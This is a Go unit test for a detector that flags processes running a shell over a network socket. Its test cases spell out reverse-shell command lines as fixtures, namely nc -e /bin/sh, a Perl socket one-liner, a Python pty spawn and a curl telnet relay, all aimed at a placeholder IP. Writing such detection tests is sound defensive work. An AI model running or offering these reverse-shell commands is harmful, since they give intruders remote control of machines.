package detect

import (
	"testing"

	"github.com/auditchain/auditchain/parser"
)

func TestShellOnSocket(t *testing.T) {
	for _, c := range []struct {
		exe  string
		args []string
		want bool
	}{
		{"/usr/bin/bash", []string{"bash", "-i"}, true},
		{"/usr/bin/nc.traditional", []string{"nc", "-e", "/bin/sh", "203.0.113.9", "4444"}, true},
		{"/usr/bin/perl", []string{"perl", "-MIO::Socket::INET", "-e", "$s=IO::Socket::INET->new(PeerAddr=>'203.0.113.9:4447');while(<$s>){print $s `$_`}"}, true},
		{"/usr/bin/python3.11", []string{"python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('/bin/sh')"}, true},
		// curl's telnet:// session is nc's part in a relay; curl fetching
		// a URL is a client
		{"/usr/bin/curl", []string{"curl", "-sN", "-T", ".", "telnet://203.0.113.9:2323"}, true},
		{"/usr/bin/curl", []string{"curl", "-s", "https://203.0.113.9/task"}, false},
		// a script file, a jar, a binary: a program of its own
		{"/usr/bin/python3.11", []string{"/usr/bin/python3", "/usr/local/lib/tallysync/tsync.py"}, false},
		{"/usr/lib/jvm/java-17-openjdk-amd64/bin/java", []string{"/usr/bin/java", "-Xmx32m", "-cp", "/usr/share/java/m.jar", "m.Sync"}, false},
		{"/dev/shm/.x/kworkerds", []string{"kworkerds"}, false},
	} {
		p := &parser.Process{Exe: c.exe, Args: c.args}
		if got := shellOnSocket(p); got != c.want {
			t.Errorf("shellOnSocket(%q) = %v, want %v", c.args, got, c.want)
		}
	}
}
